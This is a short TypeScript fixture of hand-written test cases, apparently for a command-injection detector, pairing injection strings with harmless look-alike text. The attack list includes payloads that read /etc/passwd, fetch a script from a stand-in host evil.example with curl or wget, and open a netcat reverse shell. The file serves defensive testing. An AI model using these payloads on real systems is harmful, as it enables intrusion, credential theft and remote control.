import type { FamilyCases } from "./mod.ts";

/** command: hand-written. */
export const cases: FamilyCases = {
  pairs: [],
  attacks: [
    "; cat /etc/passwd",
    "| whoami",
    "$(curl http://evil.example/x.sh)",
    "127.0.0.1; ls -la",
    "& ping -n 5 127.0.0.1",
    "`id`; uname -a",
    "|| wget http://evil.example/x",
    "; nc -e /bin/sh 10.0.0.1 4444",
  ],
  twins: [
    "cats; dogs",
    "salt & pepper",
    "A | B | C",
    "He said `hello`",
    "Type your name; then press enter",
  ],
};
